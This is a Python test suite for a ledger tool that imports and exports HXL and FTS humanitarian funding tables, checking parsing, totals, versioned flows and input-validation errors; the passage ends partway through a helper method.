#!/usr/bin/env python3
"""`concord import hxl` and `concord export hxl|csv`, end to end.

Reading: libhxl's own test inputs (../shared/data/hxl) read with
`import hxl --check` must give libhxl's expected output (output-valid.json,
output-valid.csv) for CSV, TSV, semicolons and Latin-1; the hashtag row is
found under several header rows; a quoted cell keeps its line breaks; files
without a hashtag row are refused.

Importing: HDX's FTS tables (../shared/data/fts) must give FTS's own totals
from what the ledger recorded, and after `import fts` of the same flows must
record nothing and count each flow once; tables without FTS ids get ids from
their content (re-import is idempotent); every bad value is named by row,
column and hashtag, and a refused file records nothing.

An export imported back: concord's HXL export of FTS flows, newer versions
included, records in another ledger the same flows with the same balances and
funding, and in the same ledger nothing; text the export guarded against
spreadsheet formulas reads back as it was.

Exporting: the CSV is parsed with Python's csv module and checked against
`transfer show`, `balance --json` and `gaps --json`; records end with CRLF
and a memo holding a comma, a quote and a line break is quoted.

usage: test_hxl.py CONCORD_BINARY DATA_DIR [unittest arguments]
"""
import csv
import decimal
import glob
import io
import json
import os
import subprocess
import sys
import tempfile
import unittest

import small_disk  # beside this file

CONCORD = None
DATA = None


def hxl(name):
    return os.path.join(DATA, "hxl", name)


def fts(name):
    return os.path.join(DATA, "fts", name)


def pages(country):
    return sorted(glob.glob(fts(f"{country}-2020-page-*.json")))


def fts_totals(country):
    with open(pages(country)[0], encoding="utf-8") as f:
        return json.load(f)["data"]["incoming"]


def fts_flows(country):
    out = {}
    for p in pages(country):
        with open(p, encoding="utf-8") as f:
            for flow in json.load(f)["data"]["flows"]:
                out[str(flow["id"])] = flow
    return out


def table_rows(path):
    """An HDX FTS table as dicts by its header row (the hashtag row skipped)."""
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    return [dict(zip(rows[0], r)) for r in rows[2:]]


def cents(text):
    return int(decimal.Decimal(text) * 100)


def parse_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


class Base(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()
        self.db = os.path.join(self.dir.name, "h.db")
        r = self.cc("init")
        self.assertEqual(r.returncode, 0, r.stderr)

    def tearDown(self):
        self.dir.cleanup()

    def cc(self, *args, input=None, token=None):
        cmd = [CONCORD, "--db", self.db] + (["--token", token] if token else []) + list(args)
        return subprocess.run(cmd, input=input, capture_output=True, text=True, timeout=300)

    def raw(self, *args):
        """Output as bytes: line ends must be seen as written."""
        return subprocess.run([CONCORD, "--db", self.db] + list(args), capture_output=True,
                              timeout=300)

    def write(self, name, content, encoding="utf-8"):
        path = os.path.join(self.dir.name, name)
        with open(path, "wb") as f:
            f.write(content.encode(encoding) if isinstance(content, str) else content)
        return path

    def imported(self, path, code=0):
        r = self.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, code, r.stderr)
        return json.loads(r.stdout)

    def apply(self, *ops):
        r = self.cc("apply", input="".join(json.dumps(o) + "\n" for o in ops))
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        return [json.loads(line) for line in r.stdout.splitlines()]

    def transfer(self, ident):
        r = self.cc("transfer", "show", ident, "--json")
        return json.loads(r.stdout) if r.returncode == 0 else None

    def export(self, fmt, *args):
        r = self.cc("export", fmt, *args)
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = parse_csv(r.stdout)
        skip = 2 if fmt == "hxl" else 1
        return rows[0], [dict(zip(rows[0], row)) for row in rows[skip:]], rows

    def transfer_ids(self):
        _, rows, _ = self.export("csv", "--what", "transfers")
        return [row["id"] for row in rows]

    def events(self):
        r = self.cc("verify")
        self.assertEqual(r.returncode, 0, r.stderr)
        return r.stdout.split()[1]  # "intact: N events, …"


# ------------------------------------------------------------------ reading HXL


class Reading(Base):
    def check(self, path, *extra):
        r = self.cc("import", "hxl", path, "--check", *extra)
        self.assertEqual(r.returncode, 0, r.stderr)
        return r.stdout

    def test_valid_inputs_read_as_libhxl_reads_them(self):
        with open(hxl("output-valid.json"), encoding="utf-8") as f:
            expected = json.load(f)
        for name in ("input-valid.csv", "input-valid.tsv", "input-valid.ssv",
                     "input-valid-latin1.csv"):
            with self.subTest(name=name):
                self.assertEqual(json.loads(self.check(hxl(name), "--json")), expected)

    def test_json_inputs_read_as_libhxl_reads_them(self):
        # An array of rows: the same table as the CSV files.
        with open(hxl("output-valid.json"), encoding="utf-8") as f:
            expected = json.load(f)
        self.assertEqual(json.loads(self.check(hxl("input-valid.json"), "--json")), expected)
        # Objects keyed by hashtag, alone or as the one array of an object: each data
        # row, tag by tag, is libhxl's output-valid-objects.json.
        with open(hxl("output-valid-objects.json"), encoding="utf-8") as f:
            objects = json.load(f)
        for name in ("input-valid-objects.json", "input-valid-nested.json"):
            with self.subTest(name=name):
                table = json.loads(self.check(hxl(name), "--json"))
                tags = table[1]
                rows = [{t: v for t, v in zip(tags, row) if t} for row in table[2:]]
                self.assertEqual(rows, objects)
        # Several arrays: each chosen by libhxl's selector; without one, refused.
        for key, row in (("sel1", ["Coast", "100"]), ("sel2", ["Plains", "200"])):
            table = json.loads(self.check(hxl("input-valid-json-selector.json"), "--selector",
                                          key, "--json"))
            self.assertEqual(table[-2:], [["#adm1", "#affected"], row])
        r = self.cc("import", "hxl", hxl("input-valid-json-selector.json"), "--check",
                    "--selector", "sel3")
        self.assertEqual(r.returncode, 2)
        self.assertIn("no array of rows under the selector sel3", r.stderr)
        # Without a selector, or with no hashtags at all: refused, saying why.
        cases = [("input-valid-json-selector.json", "several arrays of rows (sel1, sel2)"),
                 ("input-untagged.json", "no HXL hashtag row"),
                 ("input-untagged-objects.json", "no HXL hashtag row")]
        for name, message in cases:
            with self.subTest(name=name):
                r = self.cc("import", "hxl", hxl(name), "--check")
                self.assertEqual(r.returncode, 2)
                self.assertIn(message, r.stderr)
        bad = self.write("bad.json", '[["#org"], [{"nested": 1}]]')
        r = self.cc("import", "hxl", bad, "--check")
        self.assertEqual(r.returncode, 2)
        self.assertIn("row 2, column 1: a cell must be text, a number, true, false or null",
                      r.stderr)

    def test_valid_inputs_written_as_libhxl_writes_them(self):
        with open(hxl("output-valid.csv"), "rb") as f:
            expected = f.read()
        for name in ("input-valid.csv", "input-valid.tsv", "input-valid.ssv",
                     "input-valid-latin1.csv"):
            with self.subTest(name=name):
                r = self.raw("import", "hxl", hxl(name), "--check")
                self.assertEqual(r.returncode, 0, r.stderr)
                self.assertEqual(r.stdout, expected)

    def test_the_hashtag_row_under_several_header_rows(self):
        got = json.loads(self.check(hxl("input-multiple-headers.csv"), "--json"))
        self.assertEqual(got, [["Org", "No hashtag", "Province", "Number affected"],
                               ["#org", "", "#adm1", "#affected"],
                               ["Org X", "xxx", "Coast", " 100"],
                               ["Org Y", "yyy", "Mountains", " 200"]])

    def test_a_quoted_cell_keeps_its_line_breaks(self):
        got = json.loads(self.check(hxl("input-multiline.csv"), "--json"))
        self.assertEqual(got, [[None], ["#description"], ["Line 1\nLine 2\nLine 3"]])

    def test_malformed_hashtags_leave_their_columns_untagged(self):
        got = json.loads(self.check(hxl("input-fuzzy.csv"), "--json"))
        self.assertEqual(got[1], ["", "#sector+es", "#subsector+es", "#org+es", "#targeted+f",
                                  "#targeted+f", "", ""])
        self.assertEqual(len(got), 2 + 4)

    def test_files_without_a_hashtag_row_are_refused(self):
        for name, hint in (("input-invalid.csv", "row 3 looks like hashtags without their '#'"),
                           ("input-untagged.csv", "not an HXL table")):
            with self.subTest(name=name):
                r = self.cc("import", "hxl", hxl(name), "--check")
                self.assertEqual(r.returncode, 2)
                self.assertEqual(r.stdout, "")
                self.assertIn("no HXL hashtag row in the first 25 rows", r.stderr)
                self.assertIn(hint, r.stderr)
                self.assertIn(name, r.stderr)

    def test_the_hashtag_row_after_24_header_rows_and_no_later(self):
        body = "#org,#adm1\r\nA,B\r\n"
        ok = self.write("late.csv", "header\r\n" * 24 + body)
        self.assertEqual(json.loads(self.check(ok, "--json"))[1], ["#org", "#adm1"])
        late = self.write("later.csv", "header\r\n" * 25 + body)
        self.assertEqual(self.cc("import", "hxl", late, "--check").returncode, 2)

    def test_separator_detected_without_the_extension(self):
        path = self.write("semicolons.csv", "Org;Amount\n#org+name;#value+usd\nA, B;1,5\n")
        self.assertEqual(json.loads(self.check(path, "--json")),
                         [["Org", "Amount"], ["#org+name", "#value+usd"], ["A, B", "1,5"]])

    def test_standard_input(self):
        with open(hxl("input-valid.csv"), encoding="utf-8") as f:
            r = self.cc("import", "hxl", "-", "--check", "--json", input=f.read())
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(hxl("output-valid.json"), encoding="utf-8") as f:
            self.assertEqual(json.loads(r.stdout), json.load(f))

    def test_hostile_files_are_refused_with_their_place(self):
        cases = [
            ("nul.csv", b"#org,#adm1\nA\x00,B\n", "line 2: a NUL byte"),
            ("quote.csv", b"#org,#adm1\nA,\"B\nC\n", "a quoted cell is not closed"),
            ("stray.csv", b"#org,#adm1\nA,B\"x\"\n", "line 2: malformed CSV"),
            ("wide.csv", ("#org," + "x," * 1100 + "\n").encode(), "more than 1024 columns"),
            ("cell.csv", b"#org\n\"" + b"x" * (64 * 1024 + 1) + b"\"\n",
             "row 2, column 1: a cell of more than 65536 bytes"),
        ]
        for name, content, message in cases:
            with self.subTest(name=name):
                r = self.cc("import", "hxl", self.write(name, content), "--check")
                self.assertEqual(r.returncode, 2, r.stdout)
                self.assertIn(message, r.stderr)
                self.assertIn(name, r.stderr)


# ------------------------------------------------------------------ importing FTS tables


def afg_table():
    """HDX's Afghan FTS table: its header row, its hashtag row and its rows."""
    with open(fts("fts_incoming_funding_afg.csv"), encoding="utf-8", newline="") as f:
        records = list(csv.reader(f))
    return records[0], records[1], records[2:]


class FtsTables(Base):
    def replicated_table(self, count, first):
        """The Afghan table's rows over and over, count of them, each under a flow id of its
        own (first, first + 1, …): the table's path, and its rows."""
        head, tags, data = afg_table()
        flow = tags.index("#activity+id+fts_internal")
        rows = []
        for n in range(count):
            row = list(data[n % len(data)])
            row[flow] = str(first + n)
            rows.append(row)
        path = os.path.join(self.dir.name, f"table-{first}.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows([head, tags] + rows)
        return path, rows

    def test_fts_totals_from_the_ledger(self):
        for country in ("afg", "jor"):
            with self.subTest(country=country):
                path = fts(f"fts_incoming_funding_{country}.csv")
                rows = table_rows(path)
                s = self.imported(path)
                totals = fts_totals(country)
                # What the rows sum to, as FTS counts: single-boundary commitments and payments.
                single = [r for r in rows if r["onBoundary"] == "single"]
                funding = sum(int(r["amountUSD"]) for r in single if r["status"] != "pledge")
                pledges = sum(int(r["amountUSD"]) for r in single if r["status"] == "pledge")
                shared = sum(int(r["amountUSD"]) for r in rows if r["onBoundary"] == "shared")
                self.assertEqual(funding, totals["fundingTotal"])
                self.assertEqual(cents(s["funding_usd"]), totals["fundingTotal"] * 100)
                self.assertEqual(cents(s["pledges_usd"]), totals["pledgeTotal"] * 100)
                self.assertEqual(cents(s["pledges_usd"]), pledges * 100)
                self.assertEqual(cents(s["shared"]["usd"]), shared * 100)
                # The file's whole sum is what FTS counts plus the shared flows.
                self.assertEqual(sum(int(r["amountUSD"]) for r in rows),
                                 funding + pledges + shared)
                self.assertEqual(s["rows"], len(rows))
                self.assertEqual(s["zero_usd"], sum(r["amountUSD"] == "0" for r in rows))
                self.assertEqual(s["by_boundary"]["incoming"]["rows"], len(rows))
                self.assertEqual(cents(s["by_boundary"]["incoming"]["funding_usd"]),
                                 totals["fundingTotal"] * 100)
                for status in ("commitment", "paid"):
                    self.assertEqual(cents(s["by_status"][status]["usd"]), 100 * sum(
                        int(r["amountUSD"]) for r in single if r["status"] == status))
                self.assertEqual(s["rejected"], [])
        self.assertEqual(self.cc("check").returncode, 0)
        self.assertEqual(self.cc("verify").returncode, 0)

    def test_a_table_over_one_batch_is_one_import(self):
        # 12,000 rows (the Afghan table's, each under a flow id of its own): three
        # batches of 5,000 in one group; the figures are the rows' sums all the same.
        big, rows = self.replicated_table(12000, 700000)
        amount = afg_table()[0].index("amountUSD")
        s = self.imported(big)
        self.assertEqual(s["rows"], 12000)
        self.assertEqual(s["recorded"] + s["zero_usd"], 12000)
        self.assertEqual(s["zero_usd"], sum(r[amount] == "0" for r in rows))
        self.assertEqual(cents(s["by_boundary"]["incoming"]["funding_usd"]) +
                         cents(s["by_boundary"]["incoming"]["pledges_usd"]) +
                         cents(s["shared"]["usd"]),
                         100 * sum(int(r[amount]) for r in rows))
        r = self.cc("verify")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertRegex(r.stdout, r"intact: ([3-9]|\d\d+) events")
        again = self.imported(big)
        self.assertEqual((again["recorded"], again["exists"]), (0, s["recorded"]))

    def test_a_flow_s_versions_are_counted_as_the_last_leaves_them_across_batches(self):
        # 4,999 flows, then flow 900000 at version 1 (1,000 USD) and version 2 (0 USD),
        # which would fall on both sides of the 5,000-row batch boundary, then 100 more
        # flows. The newer version undoes the older, so neither row holds money.
        head, tags, data = afg_table()
        head, tags = head + ["version"], tags + ["#meta+version"]
        flow = tags.index("#activity+id+fts_internal")
        amount = head.index("amountUSD")

        def row(ident, usd, version):
            r = list(data[0]) + [str(version)]
            r[flow], r[amount] = str(ident), str(usd)
            return r

        rows = [row(100000 + k, 1000, 1) for k in range(4999)]
        rows += [row(900000, 1000, 1), row(900000, 0, 2)]
        rows += [row(950000 + k, 1000, 1) for k in range(100)]
        table = os.path.join(self.dir.name, "split.csv")
        with open(table, "w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows([head, tags] + rows)
        s = self.imported(table)
        self.assertEqual((s["rows"], s["recorded"], s["zero_usd"]), (5101, 5099, 2))
        self.assertEqual(cents(s["funding_usd"]) + cents(s["pledges_usd"]) +
                         cents(s["shared"]["usd"]), 5099 * 1000 * 100)

    def test_a_table_is_recorded_whole_or_not_at_all(self):
        # 20,000 rows, four batches; the database may grow by 4 MB only (a file size
        # limit, as a full disk would): the store's error, and not one batch recorded.
        big, _ = self.replicated_table(20000, 800000)
        r = small_disk.run([CONCORD, "--db", self.db, "import", "hxl", big], 4)
        self.assertEqual(r.returncode, 3, r.stderr)
        self.assertEqual(self.transfer_ids(), [])
        self.assertEqual(json.loads(self.cc("unit", "list", "--json").stdout), [])
        self.assertEqual(self.cc("check").returncode, 0)

    def test_each_row_is_its_flow(self):
        path = fts("fts_incoming_funding_afg.csv")
        self.imported(path)
        rows = table_rows(path)
        money = [r for r in rows if r["amountUSD"] != "0"]
        for r in money[:40]:
            # The table's report of the version (FTS's own, imported later, replaces it).
            t = self.transfer(f"fts.{r['id']}.v1.hxl")
            self.assertIsNotNone(t, r["id"])
            self.assertEqual(t["amount"], int(r["amountUSD"]) * 100)
            self.assertEqual(t["kind"], r["status"])
            self.assertEqual(t["date"], r["date"])
            self.assertEqual(t["state"], "pending" if r["status"] == "pledge" else "posted")
            self.assertEqual(t["meta"]["fts"]["flow"], r["id"])
            self.assertEqual(t["meta"]["fts"]["on_boundary"], r["onBoundary"])
            self.assertEqual(t["meta"]["source"], "hxl")
            if r["srcOrganization"]:
                self.assertEqual(t["meta"]["fts"]["source"]["name"], r["srcOrganization"])
                self.assertTrue(t["debit"].startswith("hxl.org.") and
                                t["debit"].endswith(".given"), t["debit"])
            else:
                self.assertEqual(t["debit"], "fts.org.unspecified.given")
            if r["description"].strip():
                self.assertEqual(t["memo"], r["description"].strip())
        # A flow of 0 USD moves nothing.
        zero = next(r for r in rows if r["amountUSD"] == "0")
        self.assertIsNone(self.transfer(f"fts.{zero['id']}.v1.hxl"))
        self.assertIsNone(self.transfer(f"fts.{zero['id']}.v1"))
        # An organisation by name: one party, its accounts named as FTS names it.
        luxembourg = self.cc("account", "show", "hxl.org.luxembourg-government-of.given",
                             "--json")
        self.assertEqual(luxembourg.returncode, 0, luxembourg.stderr)
        self.assertEqual(json.loads(luxembourg.stdout)["name"], "Luxembourg, Government of")
        parties = {p["id"]: p for p in json.loads(self.cc("party", "list", "--json").stdout)}
        self.assertEqual(parties["hxl-luxembourg-government-of"]["kind"], "nation")

    def test_after_import_fts_records_nothing_and_counts_each_flow_once(self):
        r = self.cc("import", "fts", *pages("afg"), "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        ids, events = self.transfer_ids(), self.events()
        balances = self.cc("balance", "--prefix", "fts.", "--json").stdout
        for name in ("fts_incoming_funding_afg.csv", "fts_internal_funding_afg.csv"):
            with self.subTest(name=name):
                path = fts(name)
                rows = table_rows(path)
                s = self.imported(path)
                self.assertEqual(s["recorded"], 0)
                self.assertEqual(s["exists"] + s["zero_usd"], len(rows))
                self.assertEqual(s["exists"], sum(r["amountUSD"] != "0" for r in rows))
                boundary = rows[0]["boundary"]
                single = sum(int(r["amountUSD"]) for r in rows
                             if r["onBoundary"] == "single" and r["status"] != "pledge")
                self.assertEqual(cents(s["funding_usd"]), single * 100)
                self.assertEqual(cents(s["by_boundary"][boundary]["funding_usd"]), single * 100)
                if boundary == "incoming":
                    self.assertEqual(single, fts_totals("afg")["fundingTotal"])
        # Nothing new: the same transfers, the same balances, no new event in the log.
        self.assertEqual(self.transfer_ids(), ids)
        self.assertEqual(self.events(), events)
        self.assertEqual(self.cc("balance", "--prefix", "fts.", "--json").stdout, balances)
        self.assertEqual(list(filter(lambda i: i.startswith("hxl."), ids)), [])

    def test_names_matched_to_the_fts_organisations_the_ledger_knows(self):
        r = self.cc("import", "fts", *pages("afg"), "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        flows = fts_flows("afg")
        f = next(f for f in flows.values() if f["sourceObjects"][0]["type"] == "Organization"
                 and f["sourceObjects"][0]["name"] == "Switzerland, Government of")
        org = f["sourceObjects"][0]
        path = self.write("new-flow.csv",
                          "date,amountUSD,src,dst,status,boundary,onBoundary,id\r\n"
                          "#date,#value+funding+total+usd,#org+name+funder,#org+name+impl,"
                          "#status+text,#financial+direction,#financial+direction+type,"
                          "#activity+id+fts_internal\r\n"
                          f"2020-06-01,1000,\"{org['name']}\",A recipient new to FTS,paid,"
                          "incoming,single,999999001\r\n")
        s = self.imported(path)
        self.assertEqual(s["recorded"], 1)
        t = self.transfer("fts.999999001.v1.hxl")
        self.assertEqual(t["debit"], f"fts.org.{org['id']}.given")
        self.assertEqual(t["credit"], "hxl.org.a-recipient-new-to-fts.received")
        self.assertEqual(t["meta"]["fts"]["source"]["id"], org["id"])

    def test_a_newer_version_supersedes_and_an_older_records_nothing(self):
        head = ("date,amountUSD,src,dst,status,boundary,onBoundary,id,version\r\n"
                "#date,#value+funding+total+usd,#org+name+funder,#org+name+impl,#status+text,"
                "#financial+direction,#financial+direction+type,#activity+id+fts_internal,"
                "#meta+version\r\n")
        v1 = self.write("v1.csv", head + "2020-06-01,1000,A,B,paid,incoming,single,77,1\r\n")
        v2 = self.write("v2.csv", head + "2020-06-01,1500,A,B,paid,incoming,single,77,2\r\n")
        self.assertEqual(self.imported(v1)["recorded"], 1)
        s = self.imported(v2)
        self.assertEqual((s["recorded"], cents(s["funding_usd"])), (1, 150000))
        fix = self.transfer("fts.77.v2.supersedes")
        self.assertEqual((fix["debit"], fix["credit"], fix["amount"], fix["kind"]),
                         ("hxl.org.b.received", "hxl.org.a.given", 100000, "correction"))
        again = self.imported(v1)
        self.assertEqual((again["recorded"], again["exists"]), (0, 1))
        self.assertEqual(cents(again["funding_usd"]), 150000)  # the ledger's: version 2
        balance = json.loads(self.cc("balance", "hxl.org.b.received", "--json").stdout)[0]
        self.assertEqual(balance["credits_posted"] - balance["debits_posted"], 150000)

    def test_versions_of_one_flow_in_one_file(self):
        head = ("id,version,amount,from,to,date,direction,type\r\n"
                "#activity+id+fts_internal,#meta+version,#value+usd,#org+funder,#org+impl,#date,"
                "#financial+direction,#financial+direction+type\r\n")
        path = self.write("versions.csv", head +
                          "88,2,300,A,B,2020-01-02,incoming,single\r\n"
                          "88,1,200,A,B,2020-01-01,incoming,single\r\n")
        s = self.imported(path)
        self.assertEqual((s["rows"], cents(s["funding_usd"])), (2, 30000))
        self.assertEqual(self.transfer("fts.88.v1.hxl")["amount"], 20000)
        self.assertEqual(self.transfer("fts.88.v2.supersedes")["amount"], 20000)
        self.assertEqual(self.transfer("fts.88.v2.hxl")["amount"], 30000)
        self.assertEqual(self.imported(path)["exists"], 2)

    def test_import_fts_after_the_table_counts_each_flow_once(self):
        # The table first, then FTS's own answer: each flow is counted once, by FTS's
        # fuller record, and the table's report is kept beside it, undone.
        self.imported(fts("fts_incoming_funding_jor.csv"))
        r = self.cc("import", "fts", *pages("jor"), "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        s = json.loads(r.stdout)
        self.assertEqual(s["rejected"], [])
        # Each table record FTS's replaced, at the same version or by a newer one, is a
        # correction, not a new transfer (the table, of version-1 rows, corrected none).
        undone = sum(1 for t in self.transfer_ids()
                     if t.endswith(".hxl.superseded") or t.endswith(".supersedes"))
        self.assertGreater(undone, 0)
        self.assertEqual(s["transfers"]["superseded"], undone)
        incoming = s["reported_by_fts"]["incoming"]
        self.assertEqual((s["incoming"]["flows"], s["incoming"]["funding_usd"],
                          s["incoming"]["pledges_usd"]),
                         (incoming["flows"], incoming["funding_usd"], incoming["pledges_usd"]))
        flows = fts_flows("jor")
        table = {r["id"]: r for r in table_rows(fts("fts_incoming_funding_jor.csv"))}
        # A version-1 flow the table recorded: its report kept, undone by FTS's record.
        one = next(f for f in flows.values() if f["versionId"] == 1 and f["amountUSD"] > 0
                   and f["status"] != "pledge" and f["id"] in table)
        kept = self.transfer(f"fts.{one['id']}.v1.hxl")
        fix = self.transfer(f"fts.{one['id']}.v1.hxl.superseded")
        own = self.transfer(f"fts.{one['id']}.v1")
        self.assertEqual(kept["meta"]["source"], "hxl")
        self.assertEqual((fix["kind"], fix["amount"], fix["debit"], fix["credit"]),
                         ("correction", kept["amount"], kept["credit"], kept["debit"]))
        self.assertEqual(fix["meta"]["corrects"], f"fts.{one['id']}.v1.hxl")
        self.assertEqual((own["meta"]["source"], own["amount"]),
                         ("fts", one["amountUSD"] * 100))
        # Net per flow, from every transfer: the newest version's amount, once.
        _, rows, _ = self.export("csv", "--what", "transfers")
        net = {}
        for row in rows:
            flow = row["id"].split(".")[1]
            if row["kind"] == "correction":
                net[flow] = net.get(flow, 0) - cents(row["amount"])
            elif row["kind"] in ("commitment", "paid"):
                net[flow] = net.get(flow, 0) + cents(row["amount"])
        for flow, amount in net.items():
            f = flows[flow]
            if f["status"] != "pledge":
                self.assertEqual(amount, f["amountUSD"] * 100, flow)
        # The funding report counts FTS's figures once.
        report = json.loads(self.cc("report", "funding", "--json").stdout)
        by_source = {b["source"]: b for b in report["by_source"]}
        self.assertEqual(by_source["fts"]["committed"], incoming["funding_usd"] * 100)
        self.assertEqual(by_source.get("hxl", {"committed": 0})["committed"], 0)
        # Again: nothing new.
        again = json.loads(self.cc("import", "fts", *pages("jor"), "--json").stdout)
        self.assertEqual(again["transfers"], {"created": 0, "superseded": 0})
        self.assertEqual(self.cc("check").returncode, 0)
        self.assertEqual(self.cc("verify").returncode, 0)


# ------------------------------------------------------------------ importing other tables

FUNDING = (
    "Who gave,Who got,USD,Stage,When,What,Currency,Original\r\n"
    "#org+funder,#org+impl,#value+usd,#status,#date,#description+notes,#currency,"
    "#value+original\r\n"
    "\"Luxembourg, Government of\",World Food Programme,\"1,234.50\",commitment,2021-03-01,"
    "\"Food, \"\"urgent\"\"\nsecond line\",EUR,1000\r\n"
    "Sweden,UNICEF,100,pledge,5 March 2021,,,\r\n"
    "Sweden,UNICEF,100,pledge,5 March 2021,,,\r\n"
    "Organización Panamericana de la Salud,Médecins Sans Frontières,250000.25,Paid,"
    "2021/04/30,,,\r\n"
    "Sweden,UNICEF,7,,2021-05-01T00:00:00Z,,,\r\n"
)


class OtherTables(Base):
    def test_rows_without_fts_ids(self):
        s = self.imported(self.write("funding.csv", FUNDING))
        self.assertEqual((s["rows"], s["recorded"], s["exists"]), (5, 5, 0))
        self.assertEqual(cents(s["funding_usd"]), 123450 + 25000025 + 700)
        self.assertEqual(cents(s["pledges_usd"]), 20000)
        self.assertEqual(s["by_status"]["pledge"]["rows"], 2)  # two equal rows: two pledges
        _, rows, _ = self.export("csv", "--what", "transfers")
        by_memo = {r["memo"]: r for r in rows}
        food = self.transfer(by_memo['Food, "urgent"\nsecond line']["id"])
        self.assertRegex(food["id"], r"^hxl\.[0-9a-f]{16}$")
        self.assertEqual((food["debit"], food["credit"], food["amount"], food["kind"]),
                         ("hxl.org.luxembourg-government-of.given",
                          "hxl.org.world-food-programme.received", 123450, "commitment"))
        self.assertEqual(food["meta"]["hxl"]["currency"], "EUR")
        self.assertEqual(food["meta"]["hxl"]["original_amount"], "1000")
        self.assertEqual(food["date"], "2021-03-01")
        paho = self.cc("balance", "hxl.org.organizacion-panamericana-de-la-salud.given",
                       "--json")
        self.assertEqual(json.loads(paho.stdout)[0]["debits_posted"], 25000025)
        sweden = json.loads(self.cc("balance", "hxl.org.sweden.given", "--json").stdout)[0]
        self.assertEqual((sweden["debits_pending"], sweden["debits_posted"]), (20000, 700))
        # Idempotent: again, nothing is recorded and the figures are the ledger's.
        again = self.imported(self.write("again.csv", FUNDING))
        self.assertEqual((again["recorded"], again["exists"]), (0, 5))
        self.assertEqual(again["funding_usd"], s["funding_usd"])
        self.assertEqual(len(self.transfer_ids()), 5)
        # The same rows in another order, file and separator are the same flows.
        rows = parse_csv(FUNDING)
        reordered = [rows[0], rows[1]] + list(reversed(rows[2:]))
        text = "".join(";".join('"' + c.replace('"', '""') + '"' for c in row) + "\n"
                       for row in reordered)
        moved = self.imported(self.write("moved.txt", text))
        self.assertEqual((moved["recorded"], moved["exists"]), (0, 5))
        self.assertEqual(moved["delimiter"], ";")

    def test_amounts_written_as_json_numbers_are_read_as_written(self):
        # A JSON table's 1234.56 is the double nearest it: read back as the shortest text
        # that is that double (as written), never as its 17 digits, 1234.5599999999999.
        rows = [{"#value+usd": v, "#org+name+funder": "A", "#org+name+impl": "B",
                 "#date": "2021-01-0%d" % (i + 1)} for i, v in enumerate((1234.56, 0.1, 100.0))]
        s = self.imported(self.write("numbers.json", json.dumps(rows)))
        self.assertEqual((s["recorded"], cents(s["funding_usd"])), (3, 123456 + 10 + 10000))

    def test_latin1_names(self):
        text = ("Donor;Recipient;USD;Date\n#org+funder;#org+impl;#value+usd;#date\n"
                "République française;Médecins du Monde;10;2021-01-01\n")
        s = self.imported(self.write("latin1.ssv", text.encode("latin-1")))
        self.assertEqual((s["encoding"], s["recorded"]), ("windows-1252", 1))
        account = json.loads(self.cc("account", "show", "hxl.org.republique-francaise.given",
                                     "--json").stdout)
        self.assertEqual(account["name"], "République française")

    def test_every_bad_value_named_and_nothing_recorded(self):
        events = self.events()
        text = ("Who,Whom,USD,Stage,When,Id,Direction,Type\r\n"
                "#org+funder,#org+impl,#value+usd,#status,#date,#activity+id+fts_internal,"
                "#financial+direction,#financial+direction+type\r\n"
                "A,B,12x,paid,2021-01-01,,,\r\n"
                "A,B,1.234,paid,2021-01-01,,,\r\n"
                "A,B,-5,paid,2021-01-01,,,\r\n"
                "A,B,1.234,50,paid,2021-01-01,,,\r\n"
                "A,B,10,given,2021-01-01,,,\r\n"
                "A,B,10,paid,01/03/2021,,,\r\n"
                ",B,10,paid,2021-01-01,,,\r\n"
                "A,B,0,paid,2021-01-01,,,\r\n"
                "A,B,10,paid,2021-01-01,12x,sideways,single\r\n"
                "A,B,10,paid,2021-01-01,,,\r\n")
        r = self.cc("import", "hxl", self.write("bad.csv", text), "--json")
        self.assertEqual(r.returncode, 2)
        self.assertEqual(r.stdout, "")
        for needle in (
                'bad.csv: row 3, column 3 (#value+usd): "12x": not a decimal number',
                "bad.csv: row 4, column 3 (#value+usd): \"1.234\": more than 2 decimal places",
                "bad.csv: row 5, column 3 (#value+usd): \"-5\": must not be negative",
                "bad.csv: row 7, column 4 (#status): \"given\": must be one of pledge, "
                "commitment, paid",
                "bad.csv: row 8, column 5 (#date): \"01/03/2021\": not a date",
                "bad.csv: row 9, column 1 (#org+funder): empty: the funder",
                "bad.csv: row 10, column 3 (#value+usd): \"0\": must be more than 0",
                "bad.csv: row 11, column 6 (#activity+id+fts_internal): \"12x\": not an FTS "
                "flow id",
                "bad.csv: row 11, column 7 (#financial+direction): \"sideways\": must be one of "
                "incoming, internal, outgoing",
                "nothing recorded"):
            self.assertIn(needle, r.stderr)
        # Row 6 has a cell too many: its date is in the status column.
        self.assertIn("bad.csv: row 6, column 4 (#status): \"50\"", r.stderr)
        self.assertEqual(self.transfer_ids(), [])
        self.assertEqual(self.events(), events)

    def test_refusals_of_whole_files(self):
        cases = [
            ("no-amount.csv", "#org+funder,#org+impl,#date\nA,B,2021-01-01\n",
             "no column tagged #value+usd"),
            ("no-date.csv", "#org+funder,#org+impl,#value+usd\nA,B,1\n",
             "row 2: no #date column"),
            ("twice.csv", "#org+funder,#org+impl,#value+usd,#date,#activity+id+fts_internal,"
             "#financial+direction,#financial+direction+type\n"
             "A,B,1,2021-01-01,5,incoming,single\nA,B,2,2021-01-01,5,incoming,single\n",
             "rows 2 and 3 give FTS flow version fts.5.v1 differently"),
        ]
        for name, text, message in cases:
            with self.subTest(name=name):
                r = self.cc("import", "hxl", self.write(name, text))
                self.assertEqual(r.returncode, 2, r.stdout)
                self.assertIn(message, r.stderr)
        self.assertEqual(self.transfer_ids(), [])

    def test_check_records_nothing(self):
        r = self.cc("import", "hxl", self.write("funding.csv", FUNDING), "--check", "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(json.loads(r.stdout)[1][:3], ["#org+funder", "#org+impl", "#value+usd"])
        self.assertEqual(self.transfer_ids(), [])

    def ledger(self):
        """What a dry run must leave as it was: balances, units, parties, the audit log."""
